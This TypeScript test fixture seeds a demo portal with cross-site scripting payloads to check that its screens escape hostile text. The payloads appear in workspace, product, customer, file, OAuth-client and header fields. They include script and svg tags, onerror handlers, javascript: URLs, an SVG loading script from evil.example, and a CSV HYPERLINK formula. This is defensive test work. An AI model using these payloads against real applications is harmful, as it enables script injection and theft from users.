// Fills the demo with hostile markup, in each field that an anonymous caller, an end user or a
// member can write. These are names and descriptions of the definition, rows, files, mails, calls,
// runs, events, and data of people.
import { insertGrant } from "../../../src/oauth/index.ts";
import { guidV7 } from "../../../src/platform/ids.ts";
import { demoWorkspace, stripeSigned } from "../../support/demo-stage.ts";
import { formOf } from "../../support/forms.ts";
import type { Ask } from "../../support/http-client.ts";
import type { PortalScreens } from "./stage.ts";

/** The host that no page may contact. */
export const evilHost = "evil.example";

/** A part of every hostile text. With it, the test checks that a screen shows the text. */
export const mark = "zz-markup";

/**
 * A text that runs a script and sends a request if a page interprets it as markup. It has at most
 * 200 characters.
 */
export const markup =
  `${mark}</script></style></textarea><img src=//${evilHost}/i onerror=ran(1)>` +
  `"'><svg onload=ran(2)><iframe srcdoc="<script>parent.ran(3)</script>"><script>ran(4)</script>`;

/** A shorter text with markup, for fields with a small maximum length. */
export const shortMarkup = `${mark}<img src=//${evilHost}/i onerror=ran(5)>"'><b>`;

/** A hostile value for fields that take a URL. */
const scriptAddress = `javascript:ran(6)//${mark}`;

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="ran(7)"><script href="https://${evilHost}/s.js"/><image href="https://${evilHost}/i"/><text y="20">${mark}</text></svg>`;

/** Ids of objects with hostile texts. The addresses of the portal's screens contain them. */
export interface HostileIds {
  readonly endUser: string;
  readonly row: string;
  readonly run: string;
  readonly files: readonly string[];
  /**
   * Request ids of an invalid call, of a call with a wrong signature, and of a call from a refused
   * origin.
   */
  readonly request: string;
  readonly refused: string;
  readonly origin: string;
  /** A body of `/query` whose answer contains hostile texts. */
  readonly read: string;
}

/** Returns a definition in which all texts for readers are replaced by markup. */
function withMarkup(value: unknown, name = ""): unknown {
  if (Array.isArray(value)) return value.map((each) => withMarkup(each));
  if (typeof value === "object" && value !== null)
    return Object.fromEntries(
      Object.entries(value).map(([key, each]) => [key, withMarkup(each, key)]),
    );
  return typeof value === "string" && ["label", "description", "message"].includes(name)
    ? markup
    : value;
}

export async function fillHostileWorkspace(portal: PortalScreens): Promise<HostileIds> {
  const { demo, member } = portal;
  const { database, client } = demo.gateway;
  const owner = await member("owner");
  const headers = { ...owner.headers, "user-agent": markup };
  /** Sends a call as an owner, and expects a success. */
  const ask = async (path: string, asked: Ask = {}) => {
    const answer = await demo.ask(path, { ...asked, headers: { ...headers, ...asked.headers } });
    if (answer.status >= 300) throw new Error(`${path}: ${answer.status} ${answer.text}`);
    return answer.json;
  };
  const tableOf = (name: string) => [name, idOf(name)] as const;
  const idOf = (name: string): string => definition.tables[name].id;
  const insert = (table: string, values: object) =>
    ask("query", {
      json: {
        refs: Object.fromEntries([tableOf(table)]),
        mutation: { table, type: "insert", values: [values], returning: ["id"] },
      },
    });

  await ask("definition/take-over", { method: "POST" });
  const { revision, definition } = await ask("definition");
  const hostile = withMarkup(definition) as typeof definition;
  Object.assign(hostile.workspace, { name: markup });
  Object.assign(hostile.workspace.branding, { name: markup });
  hostile.providers.steam.name = markup;
  hostile.tables.payments.columns.method.values = ["card", "cash", "transfer", "voucher", markup];
  await ask("definition", { json: { revision, definition: hostile, allowDestructive: true } });

  const category = await insert("categories", { name: shortMarkup, slug: "hostile" });
  const [{ id: row }] = category.data;
  await insert("products", {
    sku: "HOSTILE",
    name: shortMarkup,
    description: markup,
    category: row,
    price: "1.00",
    tags: [markup, scriptAddress],
    attributes: { [markup]: markup, url: scriptAddress },
  });
  await insert("customers", { name: shortMarkup, email: `"<b>"@${evilHost}`, notes: markup });

  const files: string[] = [];
  for (const [name, body] of [
    [`${mark}<img src=x onerror=ran(8)>.svg`, svg],
    [`${mark}'"><script>ran(9).txt`, `<script>ran(10)</script>${markup}`],
    [`${mark}<b>.csv`, `=HYPERLINK("https://${evilHost}"),${markup}`],
  ] as const)
    files.push((await ask("files/upload", formOf(name, body))).id);

  const endUser = await ask("endusers", {
    json: {
      email: "guest@example.com",
      password: "correct horse battery",
      firstName: shortMarkup,
      lastName: shortMarkup,
      username: shortMarkup,
      emailVerified: true,
    },
  });
  await demo.ask("auth/login", {
    key: demo.publishableKey,
    json: { email: "guest@example.com", password: "correct horse battery" },
    headers: { "user-agent": markup },
  });
  await client("/api/v1/portal/profile", {
    method: "PATCH",
    headers,
    json: { name: shortMarkup },
  });
  await client("/api/v1/portal/members", {
    headers,
    json: { workspaceId: demoWorkspace, email: `${mark}'*{}@example.com`, role: "viewer" },
  });
  await database.database.control.transaction((connection) =>
    insertGrant(connection, {
      id: guidV7(),
      userId: owner.userId,
      workspaceId: demoWorkspace,
      clientId: `https://${evilHost}/${mark}?"'><script>ran(11)</script>`,
      clientName: shortMarkup,
      resource: "mcp",
      scopes: ["gateway:read"],
      createdAt: new Date(),
      expiresAt: new Date(Date.now() + 3_600_000),
    }),
  );

  // The gateway refuses markup in the customised text of a mail. But the subject contains the name
  // of the workspace, which is markup here.
  await ask("mails/reset-code/send", { json: {} });

  await ask("topics/orders/events", {
    json: { instance: "all", name: "hostile", data: { [markup]: markup, url: scriptAddress } },
  });

  const call = { order: 7, note: markup, [markup]: scriptAddress };
  const text = JSON.stringify(call);
  await demo.call("orderPaid", text, { ...stripeSigned(text), "user-agent": markup });
  const refused = await demo.call("orderPaid", text, {
    "stripe-signature": `t=1,v1=<script>ran(12)</script>${mark}`,
    "user-agent": markup,
  });
  const { headers: logged } = await demo.ask(`query?${encodeURIComponent(markup)}=${mark}`, {
    key: demo.publishableKey,
    json: { refs: { [mark]: idOf("products") }, query: { from: markup } },
    headers: { "user-agent": markup },
  });
  const { headers: ofOrigin } = await demo.ask("schema", {
    key: demo.kioskKey,
    headers: { origin: `https://${mark}"><script>ran(13)</script>` },
  });
  const run = async (): Promise<string | undefined> =>
    (await ask("automations/runs?status=failed")).runs[0]?.id;
  let found = await run();
  for (let attempt = 0; found === undefined && attempt < 300; attempt++) {
    await new Promise((resolve) => setTimeout(resolve, 50));
    found = await run();
  }
  return {
    endUser: endUser.id,
    row,
    run: found!,
    files,
    request: String(logged["x-request-id"]),
    refused: String(refused.headers["x-request-id"]),
    origin: String(ofOrigin["x-request-id"]),
    read: JSON.stringify({ refs: { p: idOf("products") }, query: { from: "p" } }),
  };
}
